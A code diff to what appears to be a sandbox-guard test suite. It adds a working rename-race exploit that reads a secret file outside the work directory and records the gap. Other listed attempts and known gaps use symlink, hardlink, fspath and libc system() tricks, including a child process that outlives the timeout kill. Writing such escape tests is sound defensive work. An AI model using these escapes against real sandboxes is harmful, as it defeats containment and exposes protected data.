@@ -60,6 +60,31 @@ for k in range(1, (strtab - symtab) // 24):
         break
 '''
 
+# Checked, then opened by name: a thread swaps which directory is called ``x`` while the main thread
+# opens ``x/l/secret.txt``. ``xa/l -> ../..`` was made one level down (where it leads to the work
+# dir) and moved up a level by renaming its directory; ``xb/l -> ..`` leads to the work dir. Every
+# call on its own stays inside; the open that lands between the check and the swap reads the secret.
+_RENAME_RACE = r'''
+import os, threading, time
+os.makedirs('p/xa'); os.symlink('../..', 'p/xa/l'); os.rename('p/xa', 'xa')
+os.makedirs('xb'); os.symlink('..', 'xb/l')
+stop = False
+def flip():
+    while not stop:
+        os.rename('xa', 'x'); os.rename('x', 'xa'); os.rename('xb', 'x'); os.rename('x', 'xb')
+flipper = threading.Thread(target=flip)
+flipper.start()
+got, end = None, time.time() + 4
+while got is None and time.time() < end:
+    try:
+        got = open('x/l/secret.txt').read()
+    except OSError:
+        pass
+stop = True
+flipper.join()
+print(got)
+'''
+
 
 @dataclass(frozen=True)
 class Attempt:
@@ -106,6 +131,7 @@ ATTEMPTS = [
     Attempt("planted-symlink", "print(open('link.txt').read())"),
     Attempt("symlink-out", "import os\nos.symlink('SECRET_PATH', 'l')\nprint(open('l').read())"),
     Attempt("hardlink-out", "import os\nos.link('SECRET_PATH', 'h')\nprint(open('h').read())"),
+    Attempt("rename-race", _RENAME_RACE, timeout=8.0),
     Attempt("pathlike-toctou",
             "class P:\n    n = 0\n    def __fspath__(self):\n        P.n += 1\n"
             "        return 'notes.txt' if P.n == 1 else 'SECRET_PATH'\nprint(open(P()).read())"),
@@ -192,6 +218,8 @@ GUARD_GAPS = {
                                  "(no dlopen/dlsym audit event): reads the secret and writes outside the work dir",
     "libc-connect": "same libc system() route starts a process that opens a network connection",
     "survive-the-timeout": "same libc system() route starts a setsid child that outlives the process-group kill",
+    "rename-race": "the hook checks a path, then the OS opens it by name: a directory renamed in between "
+                   "(every call on its own inside the work dir) makes the open follow a link outside",
 }
 
 
